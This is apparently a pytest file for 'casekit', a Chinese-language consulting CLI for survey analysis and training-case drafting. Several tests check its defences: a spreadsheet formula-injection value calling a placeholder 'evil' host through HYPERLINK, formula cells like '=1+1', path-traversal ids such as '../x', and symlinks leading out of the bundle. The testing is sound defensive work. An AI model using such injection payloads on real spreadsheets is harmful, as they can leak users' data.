"""The ``casekit`` command line: exit codes and messages a consultant sees."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from casekit.cli import build_parser, main
from casekit.output_formats import OUTPUT_FORMATS

from conftest import BROKEN, MINI

#: The commands of this module read the sample once and analyse its notes once (conftest).
pytestmark = pytest.mark.usefixtures("read_each_bundle_once")


def test_validate_clean_bundle_exits_zero(capsys):
    assert main(["validate", str(MINI)]) == 0
    assert "OK, no problems found" in capsys.readouterr().out


def test_validate_broken_bundle_lists_every_problem_and_exits_one(capsys):
    assert main(["validate", str(BROKEN)]) == 1
    err = capsys.readouterr().err
    assert "problems found" in err
    # file, row and column of problems in different files all appear in one run
    assert "ride_alongs.csv, row 2, column 'date': expected a date YYYY-MM-DD, found '2008-13-01'" in err
    assert "survey/responses.csv, row 3, column '所在地区'" in err
    assert "catalogue/hebei.csv, row 3, column 'canonical_product'" in err


def test_validate_can_write_the_problems_as_a_table(tmp_path: Path):
    table = tmp_path / "problems.csv"
    assert main(["validate", str(BROKEN), "--csv", str(table)]) == 1
    assert table.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel opens it as UTF-8
    with table.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == ["文件", "行", "列", "应为", "实际"]  # Chinese headers (cli/headers.py)
    assert {"manifest.yaml", "codebook.yaml", "ride_alongs.csv"} <= {r["文件"] for r in rows}


def test_validate_a_folder_without_manifest_says_what_was_tried(tmp_path: Path, capsys):
    assert main(["validate", str(tmp_path)]) == 1
    assert "manifest.yaml" in capsys.readouterr().err


def test_build_rejects_an_unknown_region_before_building(tmp_path: Path, capsys):
    assert main(["build", str(MINI), "--regions", "atlantis", "--out", str(tmp_path), "--quiet"]) == 1
    assert "atlantis" in capsys.readouterr().err
    assert not any(tmp_path.rglob("*.html"))


def test_parser_requires_a_subcommand():
    with pytest.raises(SystemExit) as exc:
        build_parser().parse_args([])
    assert exc.value.code == 2


def test_segment_prints_personas_and_writes_person_to_segment(tmp_path: Path, capsys):
    from casekit.paths import SAMPLE_BUNDLE

    out = tmp_path / "seg.csv"
    assert main(["segment", str(SAMPLE_BUNDLE), "--csv", str(out)]) == 0
    printed = capsys.readouterr().out
    assert printed.startswith("客户经理可分为4类")
    assert "培训重点" in printed and "第4类" in printed
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 88
    assert {r["类型"] for r in rows} == {"1", "2", "3", "4"}
    assert rows[0].keys() >= {"受访者编号", "类型", "类型名称"}


def test_segment_says_when_there_are_no_clear_segments(tmp_path: Path, capsys):
    out = tmp_path / "seg.csv"
    assert main(["segment", str(MINI), "--csv", str(out)]) == 0
    assert capsys.readouterr().out.startswith(("未发现", "人数太少"))
    with out.open(encoding="utf-8-sig", newline="") as fh:
        assert all(r["类型"] == "" for r in csv.DictReader(fh))


@pytest.mark.parametrize("argv, expected", [
    (["gaps", "--by", "city", "--population", "客户经理"], "河北其他地市"),
    (["linkage"], "相关，不代表因果"),
    (["linkage", "--visits"], "成交或推进到下一步"),
    (["ride-alongs"], "天津客户经理每次拜访"),
    (["ride-alongs", "--by", "segment", "--view", "questions"], "第1类"),
    (["review360", "--region", "河北"], "全部他评"),
])
def test_analysis_commands_print_their_tables(argv, expected, capsys):
    from casekit.paths import SAMPLE_BUNDLE

    assert main([argv[0], str(SAMPLE_BUNDLE), *argv[1:]]) == 0
    assert expected in capsys.readouterr().out


def test_analysis_commands_write_csv_for_excel(tmp_path: Path):
    from casekit.paths import SAMPLE_BUNDLE

    out = tmp_path / "gaps.csv"
    assert main(["gaps", str(SAMPLE_BUNDLE), "--csv", str(out)]) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["分组"] for r in rows} >= {"河北", "全部地区"}
    # the stable id keeps its column; shares are percentages, means two decimals
    hebei = next(r for r in rows if r["分组编号"] == "hebei" and r["维度编号"] == "industry")
    assert hebei["维度"] == "行业" and re.fullmatch(r"\d+\.\d{1,2}", hebei["均分"])
    assert 50 < float(hebei["低于目标的比例（%）"]) <= 100


def test_linkage_without_a_performance_question_says_how_to_fix_it(capsys):
    assert main(["linkage", str(MINI)]) == 1
    assert "role: performance" in capsys.readouterr().err


@pytest.mark.parametrize("argv, expected", [
    (["codes", "--cooccurrence"], "先问需求"),
    (["codes", "--frame"], "以价格开场"),
    (["quotes", "--code", "以价格开场", "--limit", "2"], "〔N011-01〕"),
    (["quotes", "--product", "宽视界"], "宽视界"),
    (["keywords", "--top", "3"], "视频看店"),
    (["keywords", "--themes"], "技术语言"),
])
def test_notes_commands_print_redacted_tables_and_quotes(argv, expected, capsys):
    from casekit.paths import SAMPLE_BUNDLE

    assert main([argv[0], str(SAMPLE_BUNDLE), *argv[1:]]) == 0
    printed = capsys.readouterr().out
    assert expected in printed
    assert "华夏宾馆" not in printed and "金麦穗" not in printed


def test_toolbox_writes_each_regions_workbook_and_document(tmp_path: Path, capsys):
    from openpyxl import load_workbook

    from casekit.paths import SAMPLE_BUNDLE

    assert main(["toolbox", str(SAMPLE_BUNDLE), "--regions", "南宁", "河北", "--out", str(tmp_path)]) == 0
    folder = tmp_path / "sample" / "toolbox"
    assert sorted(p.name for p in folder.iterdir()) == [".casekit-written.json", "hebei.docx", "hebei.xlsx",
                                                        "hebei_待修改清单.md", "nanning.docx", "nanning.xlsx",
                                                        "nanning_待修改清单.md"]
    workbook = load_workbook(folder / "nanning.xlsx")
    cells = " ".join(str(c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value)
    assert "视频看店" in cells and "宽视界" not in cells  # Nanning's own product names
    printed = capsys.readouterr()
    assert "南宁" in printed.out
    # the consultant's editing list is beside the files, summarised on stderr, not inside the files
    assert "河北待修改" in printed.err and "hebei_待修改清单.md" in printed.err  # Hebei's catalogue says 服务器
    assert "服务器" in (folder / "hebei_待修改清单.md").read_text(encoding="utf-8")
    assert "南宁待修改" in printed.err and "通用说法" in printed.err  # casekit's own phrasebook: to check


def test_outline_interview_drafts_the_regions_outline(tmp_path: Path, capsys):
    from casekit.paths import SAMPLE_BUNDLE

    out = tmp_path / "天津访谈大纲.md"
    assert main(["outline-interview", str(SAMPLE_BUNDLE), "--region", "天津", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert text.startswith("# 天津 政企客户经理 一对一访谈大纲")
    # Tianjin's largest shortfall against the target (行业) first, then its planted regional weakness
    assert text.index("## 二、行业") < text.index("## 三、时间") < text.index("## 四、")
    assert main(["outline-interview", str(SAMPLE_BUNDLE), "--region", "北京", "--population", "支撑人员"]) == 0
    assert "北京 支撑人员" in capsys.readouterr().out
    assert main(["outline-interview", str(SAMPLE_BUNDLE), "--region", "北京", "--population", "厨师"]) == 2


def test_case_draft_list_and_book(tmp_path: Path, capsys):
    import shutil

    from casekit.paths import SAMPLE_BUNDLE

    bundle = tmp_path / "bundle"
    shutil.copytree(SAMPLE_BUNDLE, bundle)
    assert main(["case", "draft", str(bundle), "N002"]) == 0
    printed = capsys.readouterr().out
    assert printed.startswith("---\nid: C002\nkind: case\n") and "华夏宾馆" not in printed
    assert not (bundle / "cases").exists()  # printing a draft writes nothing
    assert main(["case", "draft", str(bundle), "N002", "--roleplay", "--save"]) == 0
    assert sorted(p.name for p in (bundle / "cases").iterdir()) == [".casekit-written.json", "C002.md", "R002.md"]
    assert main(["case", "list", str(bundle), "--industry", "酒店"]) == 0
    assert re.search(r"\S+宾馆的苦恼", capsys.readouterr().out)
    book = tmp_path / "book.md"
    assert main(["case", "book", str(bundle), "--out", str(book)]) == 0
    text = book.read_text(encoding="utf-8")
    assert "学员版" in text and "教学要点" not in text
    assert main(["case", "book", str(bundle), "--out", str(tmp_path / "book.docx"), "--trainer"]) == 0
    assert (tmp_path / "book.docx").stat().st_size > 0


def test_case_draft_of_an_unknown_note_names_the_notes(capsys):
    from casekit.paths import SAMPLE_BUNDLE

    assert main(["case", "draft", str(SAMPLE_BUNDLE), "N999"]) == 1
    err = capsys.readouterr().err
    assert "N999" in err and "N001" in err and "Traceback" not in err


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_quotes_csv_neutralises_cells_a_spreadsheet_would_evaluate(mini_copy, tmp_path: Path):
    note = (MINI / "notes" / "N001.md").read_text(encoding="utf-8")
    bundle = mini_copy({"notes/N001.md": note.replace("客户经理B07谈到，", '=HYPERLINK("http://evil/"&A1,"x")，')
                        .replace("interviewee: 客户经理B07", "interviewee: '@SUM(A1)'")})
    out = tmp_path / "quotes.csv"
    assert main(["quotes", str(bundle), "--csv", str(out)]) == 0
    row = next(r for r in _csv_rows(out) if r["记录编号"] == "N001")
    assert row["引语"].startswith("'=HYPERLINK(\"http://evil/\"&A1") and row["原文"].startswith("'=HYPERLINK")
    assert row["受访者"] == "'@SUM(A1)"
    assert row["段落序号"] == "1"  # numbers stay numbers


def test_validate_csv_neutralises_found_values(mini_copy, tmp_path: Path):
    rides = (MINI / "ride_alongs.csv").read_text(encoding="utf-8")
    bundle = mini_copy({"ride_alongs.csv": rides.replace("2008-09-15", "=1+1").replace(",45,40,", ",-2+3,+1+1,")})
    out = tmp_path / "problems.csv"
    assert main(["validate", str(bundle), "--csv", str(out)]) == 1
    found = {r["实际"] for r in _csv_rows(out)}
    assert {"'=1+1", "'-2+3", "'+1+1"} <= found, found
    assert not any(f.startswith(("=", "+", "-", "@")) for f in found)
    assert all(r["行"].isdigit() for r in _csv_rows(out) if r["行"])  # line numbers are not quoted


@pytest.fixture
def sample_copy(tmp_path: Path) -> Path:
    import shutil

    from casekit.paths import SAMPLE_BUNDLE

    return Path(shutil.copytree(SAMPLE_BUNDLE, tmp_path / "bundle"))


def test_case_draft_save_never_overwrites_an_edited_case(sample_copy: Path, capsys):
    bundle = sample_copy
    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 0
    case = bundle / "cases" / "C002.md"
    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 0  # unedited: saved again
    edited = case.read_text(encoding="utf-8").replace("status: draft", "status: reviewed") + "\n顾问补充的内容\n"
    case.write_text(edited, encoding="utf-8")
    capsys.readouterr()
    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 1
    err = capsys.readouterr().err
    assert "C002.md was changed since casekit wrote it; not replaced (use --force" in err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert case.read_text(encoding="utf-8") == edited
    assert sorted(p.name for p in (bundle / "cases").iterdir()) == [".casekit-written.json", "C002.md"]

    assert main(["case", "draft", str(bundle), "N002", "--save", "--force"]) == 0
    backups = sorted((bundle / "cases").glob("_C002.bak-*.md"))
    assert len(backups) == 1 and backups[0].read_text(encoding="utf-8") == edited
    assert "kept as" in capsys.readouterr().err
    assert "顾问补充的内容" not in case.read_text(encoding="utf-8")
    case.write_text(edited + "第二次修改\n", encoding="utf-8")
    assert main(["case", "draft", str(bundle), "N002", "--save", "--force"]) == 0  # same second: a new name
    assert len(list((bundle / "cases").glob("_C002.bak-*.md"))) == 2  # the older backup is kept
    assert main(["case", "list", str(bundle)]) == 0  # backups are not read as cases
    assert "C002" in capsys.readouterr().out


def test_case_draft_refuses_a_hand_written_file_it_did_not_write(sample_copy: Path, capsys):
    (sample_copy / "cases").mkdir()
    (sample_copy / "cases" / "C002.md").write_text("手写的案例\n", encoding="utf-8")
    assert main(["case", "draft", str(sample_copy), "N002", "--save"]) == 1
    assert (sample_copy / "cases" / "C002.md").read_text(encoding="utf-8") == "手写的案例\n"


@pytest.mark.parametrize("case_id", ["C9\n", "../x", "a/b", "..", ".hidden", "C 9", ""])
def test_case_draft_refuses_an_id_that_cannot_be_a_file_name(sample_copy: Path, case_id: str, capsys):
    assert main(["case", "draft", str(sample_copy), "N002", "--id", case_id, "--save"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("casekit case draft: --id: case id ") and "cannot be a file name: expected" in err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert not (sample_copy / "cases").exists() and not (sample_copy.parent / "x.md").exists()


@pytest.mark.parametrize("name", ["book.pdf", "book.pptx", "book.DOCX.txt", "book"])
def test_case_book_refuses_a_format_it_cannot_write(sample_copy: Path, tmp_path: Path, name: str, capsys):
    assert main(["case", "draft", str(sample_copy), "N002", "--save"]) == 0
    out = tmp_path / name
    with pytest.raises(SystemExit) as exc:  # a usage error, before the bundle is read
        main(["case", "book", str(sample_copy), "--out", str(out)])
    assert exc.value.code == 2
    assert "supported: .docx, .md" in capsys.readouterr().err
    assert not out.exists()


def test_case_book_and_outline_keep_an_edited_file(sample_copy: Path, tmp_path: Path, capsys):
    assert main(["case", "draft", str(sample_copy), "N002", "--save"]) == 0
    for argv in (["case", "book", str(sample_copy)], ["outline-interview", str(sample_copy), "--region", "天津"]):
        out = tmp_path / f"{argv[0]}.md"
        assert main([*argv, "--out", str(out)]) == 0
        out.write_text("我的修改\n", encoding="utf-8")
        assert main([*argv, "--out", str(out)]) == 1
        assert out.read_text(encoding="utf-8") == "我的修改\n"
        assert main([*argv, "--out", str(out), "--force"]) == 0
        assert out.read_text(encoding="utf-8") != "我的修改\n"
        assert [p.read_text(encoding="utf-8") for p in tmp_path.glob(f"_{argv[0]}.bak-*.md")] == ["我的修改\n"]


def test_toolbox_keeps_a_workbook_filled_in_by_hand(tmp_path: Path, capsys):
    from openpyxl import load_workbook

    from casekit.paths import SAMPLE_BUNDLE

    argv = ["toolbox", str(SAMPLE_BUNDLE), "--regions", "南宁", "--out", str(tmp_path)]
    assert main(argv) == 0
    workbook = tmp_path / "sample" / "toolbox" / "nanning.xlsx"
    filled = load_workbook(workbook)
    filled.worksheets[1]["B2"] = "客户经理手填的内容"
    filled.save(workbook)
    before = workbook.read_bytes()
    assert main(argv) == 1
    assert "nanning.xlsx was changed since casekit wrote it" in capsys.readouterr().err
    assert workbook.read_bytes() == before
    assert main([*argv, "--force"]) == 0
    assert [p.read_bytes() for p in workbook.parent.glob("_nanning.bak-*.xlsx")] == [before]


# ------------------------------------------------------- issue 10: output extensions, cases/ in validate


#: The arguments each command needs besides its output option (never read: the option fails first).
_ARGS = {
    "validate": [str(MINI)], "codebook draft": ["export.xlsx"], "survey": ["export.xlsx", "--codebook", "cb.yaml"],
    "segment": [str(MINI)], "gaps": [str(MINI)], "linkage": [str(MINI)], "ride-alongs": [str(MINI)],
    "review360": [str(MINI)], "codes": [str(MINI)], "quotes": [str(MINI)], "keywords": [str(MINI)],
    "outline-interview": [str(MINI), "--region", "北京"], "case list": [str(MINI)], "case book": [str(MINI)],
    "findings": [str(MINI)], "followup": [str(MINI)], "outline": [str(MINI), "--region", "北京", "--audience", "支撑人员"],
    "action-plan": [str(MINI), "--region", "北京"],
}


@pytest.mark.parametrize("option", sorted(OUTPUT_FORMATS))
@pytest.mark.parametrize("name", ["out.xlsx", "out.pdf", "out"])
def test_every_output_file_must_have_an_extension_its_command_writes(option: str, name: str, tmp_path: Path,
                                                                     capsys):
    # the probe: outline-interview --out o.pdf wrote Markdown, segment --out s.xlsx, gaps --csv g.xlsx,
    # quotes --csv q.pdf and survey --out sv.xlsx wrote CSV text, all with exit 0
    *command, flag = option.split()
    out = tmp_path / name
    with pytest.raises(SystemExit) as exc:
        main([*command, *_ARGS[" ".join(command)], flag, str(out)])
    assert exc.value.code == 2
    err = capsys.readouterr().err
    supported = ", ".join(OUTPUT_FORMATS[option])
    assert f"error: argument {flag}: {out}: cannot write " in err
    assert f"supported: {supported} (nothing was written)" in err
    assert list(tmp_path.iterdir()) == []


def test_every_command_option_that_names_a_file_is_in_the_table():
    import argparse

    def walk(parser: argparse.ArgumentParser, prefix: str):
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for name, sub in action.choices.items():
                    yield from walk(sub, f"{prefix} {name}".strip())
            elif (action.option_strings and action.help != argparse.SUPPRESS
                  and (action.dest in ("out", "csv") or (action.dest == "json" and action.type is not None))):
                yield f"{prefix} {action.option_strings[0]}", action.type  # not a deprecated alias

    folders = {"sample --out", "build --out", "demo --out", "redact --out", "toolbox --out", "guide --out"}  # folders, not files
    found = dict(walk(build_parser(), ""))
    assert set(found) - folders == set(OUTPUT_FORMATS)
    assert all(getattr(found[option], "__name__", "") == "output file" for option in OUTPUT_FORMATS)


def test_validate_reads_cases_and_refuses_a_cases_folder_linked_out_of_the_bundle(tmp_path: Path, capsys):
    import shutil

    bundle = Path(shutil.copytree(MINI, tmp_path / "b"))
    (bundle / "cases").mkdir()
    (bundle / "cases" / "C777.md").write_text("---\nid: C777\ntitle: [unclosed\n---\n", encoding="utf-8")
    assert main(["validate", str(bundle)]) == 1  # was: OK, no problems found
    assert "cases/C777.md, row 3: expected valid YAML" in capsys.readouterr().err
    shutil.rmtree(bundle / "cases")
    outside = tmp_path / "cases_ext"
    outside.mkdir()
    (bundle / "cases").symlink_to(outside, target_is_directory=True)
    assert main(["validate", str(bundle)]) == 1
    assert ("cases/: expected a cases/ folder inside the bundle, found 'a link to a folder outside the bundle'"
            in capsys.readouterr().err)
    # the probe: case draft --save wrote C002.md into the outside folder, exit 0
    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 1
    err = capsys.readouterr().err
    assert "cases: expected a folder that is not a symbolic link" in err and "Traceback" not in err
    assert list(outside.iterdir()) == []


def test_case_draft_refuses_to_write_onto_a_linked_case_file(tmp_path: Path, capsys):
    import shutil

    bundle = Path(shutil.copytree(MINI, tmp_path / "b"))
    (bundle / "cases").mkdir()
    target = tmp_path / "elsewhere.md"
    target.write_text("别人的文件\n", encoding="utf-8")
    (bundle / "cases" / "C002.md").symlink_to(target)
    # the probe: an uncaught ValueError '… is not inside …' from safe_save, exit 1 with a traceback
    assert main(["case", "draft", str(bundle), "N002", "--save"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("casekit case: 1 problem in the files to write (nothing was written):\n"
                          "  - cases/C002.md: expected a file that is not a symbolic link")
    assert target.read_text(encoding="utf-8") == "别人的文件\n"


def test_case_draft_reads_a_full_width_note_id_as_the_ascii_one(tmp_path: Path, capsys):
    import shutil

    bundle = Path(shutil.copytree(MINI, tmp_path / "b"))
    assert main(["case", "draft", str(bundle), "Ｎ００２"]) == 0
    assert "sources: [N002-" in capsys.readouterr().out
    assert main(["case", "draft", str(bundle), "N002\u200b"]) == 1  # invisible: not silently another note
    assert "no note 'N002\\u200b'" in capsys.readouterr().err
